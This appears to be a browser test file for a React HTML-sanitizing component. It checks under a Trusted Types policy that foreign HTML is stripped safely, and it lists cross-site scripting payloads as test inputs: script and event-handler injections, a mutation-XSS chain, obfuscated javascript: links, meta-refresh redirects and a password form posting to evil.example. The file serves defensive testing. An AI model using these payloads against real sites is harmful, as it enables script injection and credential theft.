import { createRoot } from 'react-dom/client';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { SanitizedHtml } from '../../../shared/dialogs/SanitizedHtml';

const test = suite('foreign HTML in a browser');
const alarms: string[] = [];

test.before(() => {
  Object.assign(globalThis, { alarm: (what: string) => alarms.push(what) });
  // From here on the page is as strict as the identity server's: a string that reaches an HTML sink throws.
  const policy = document.createElement('meta');
  policy.httpEquiv = 'Content-Security-Policy';
  policy.content = "require-trusted-types-for 'script'; trusted-types dompurify; img-src 'none'";
  document.head.append(policy);
  document.addEventListener('securitypolicyviolation', ({ violatedDirective, sample }) => {
    alarms.push(`${violatedDirective} ${sample}`);
  });
});

async function shown(html: string): Promise<HTMLElement> {
  const place = document.body.appendChild(document.createElement('div'));
  createRoot(place).render(<SanitizedHtml html={html} />);
  for (let tries = 0; tries < 100 && !place.querySelector('[aria-busy="false"]'); tries += 1) {
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  const content = place.querySelector<HTMLElement>('[data-part="message-html"]');
  if (!content) throw new Error('never shown');
  return content;
}

test('the page enforces Trusted Types', async () => {
  assert.throws(() => {
    document.createElement('div').innerHTML = '<b>';
  }, /TrustedHTML/);
  await new Promise((resolve) => setTimeout(resolve, 50));
  assert.is(alarms.splice(0).length, 1);
});

test('text, lists and tables stay', async () => {
  const html = '<p>One <b>two</b></p><ul><li>three</li></ul><table><tbody><tr><td>4</td></tr></tbody></table>';
  assert.is((await shown(html)).innerHTML, html);
});

test('a link opens in a new window, without an opener', async () => {
  const html = '<a href="https://a.example/x" target="_top" rel="opener" onclick="alarm(1)" class="x" id="y">a</a>';
  const link = (await shown(html)).querySelector('a');
  assert.equal(link?.getAttributeNames().sort(), ['href', 'rel', 'target']);
  assert.equal([link?.target, link?.rel], ['_blank', 'noopener noreferrer']);
});

for (const [html, left] of [
  ['<script>alarm("script")</script>x', 'x'],
  ['<img src=x onerror=alarm("img")>x', 'x'],
  ['<svg onload=alarm("svg")><script>alarm(1)</script></svg>x', 'x'],
  ['<math><mtext><table><mglyph><style><img src=x onerror=alarm("math")>', ''],
  ['<style>body{display:none}</style>x', 'x'],
  ['<b style="position:fixed;inset:0">x</b>', '<b>x</b>'],
  ['<form action="https://evil.example"><input name="Password"><button>go</button></form>x', 'gox'],
  ['<iframe srcdoc="<script>parent.alarm(1)</script>"></iframe>x', 'x'],
  ['<object data="x"></object><embed src="x">x', 'x'],
  ['<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">x', 'x'],
  ['<link rel="stylesheet" href="https://evil.example">x', 'x'],
  ['<a href="javascript:alarm(1)">x</a>', '<a>x</a>'],
  ['<a href="  java\nscript:alarm(1)">x</a>', '<a>x</a>'],
  ['<a href="data:text/html,x">x</a>', '<a>x</a>'],
  ['<a href="vbscript:x">x</a>', '<a>x</a>'],
  ['<a href="blob:https://x/y">x</a>', '<a>x</a>'],
  ['<p id="boot" data-action="ok" data-part="list" aria-hidden="true">x</p>', '<p>x</p>'],
  ['<custom-thing onclick=alarm(1)>x</custom-thing>', 'x'],
  ['<template><b onclick=alarm(1)>x</b></template>y', 'y'],
  ['<dialog open>x</dialog>', 'x'],
  ['&lt;script&gt;', '&lt;script&gt;'],
] as const) {
  test(`${html} leaves ${left}`, async () => {
    assert.is((await shown(html)).innerHTML, left);
    await new Promise((resolve) => setTimeout(resolve, 30));
    assert.equal(alarms, []);
  });
}

test.run();
